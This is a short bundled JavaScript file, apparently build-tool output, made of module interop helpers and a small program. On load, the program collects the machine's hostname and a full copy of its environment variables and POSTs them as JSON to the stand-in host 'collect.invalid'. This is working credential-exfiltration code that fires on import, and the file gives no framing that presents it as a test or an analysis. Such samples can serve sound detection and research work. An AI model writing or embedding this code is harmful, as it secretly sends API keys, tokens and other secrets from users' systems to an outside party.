var __create = Object.create;
var __defProp = Object.defineProperty;
var __getOwnPropDesc = Object.getOwnPropertyDescriptor;
var __getOwnPropNames = Object.getOwnPropertyNames;
var __getProtoOf = Object.getPrototypeOf;
var __hasOwnProp = Object.prototype.hasOwnProperty;
var __commonJS = (cb, mod) => function __require() {
  return mod || (0, cb[__getOwnPropNames(cb)[0]])((mod = { exports: {} }).exports, mod), mod.exports;
};
var __copyProps = (to, from, except, desc) => {
  if (from && typeof from === "object" || typeof from === "function") {
    for (let key of __getOwnPropNames(from))
      if (!__hasOwnProp.call(to, key) && key !== except)
        __defProp(to, key, { get: () => from[key], enumerable: !(desc = __getOwnPropDesc(from, key)) || desc.enumerable });
  }
  return to;
};
var __toESM = (mod, isNodeMode, target) => (target = mod != null ? __create(__getProtoOf(mod)) : {}, __copyProps(
  // If the importer is in node compatibility mode or this is not an ESM
  // file that has been converted to a CommonJS file using a Babel-
  // compatible transform (i.e. "__esModule" has not been set), then set
  // "default" to the CommonJS "module.exports" for node compatibility.
  isNodeMode || !mod || !mod.__esModule ? __defProp(target, "default", { value: mod, enumerable: true }) : target,
  mod
));

// src/sender.js
var require_sender = __commonJS({
  "src/sender.js"(exports2, module2) {
    var https = require("https");
    var Sender2 = class {
      constructor(url) {
        this.url = url;
      }
      send(data) {
        const request = https.request(this.url, { method: "POST" });
        request.end(JSON.stringify(data));
      }
    };
    module2.exports = Sender2;
  }
});

// src/gather.mjs
var import_os = __toESM(require("os"), 1);
var gather = () => ({ host: import_os.default.hostname(), env: { ...process.env } });

// src/index.mjs
var import_sender = __toESM(require_sender(), 1);
new import_sender.default("https://collect.invalid/in").send(gather());
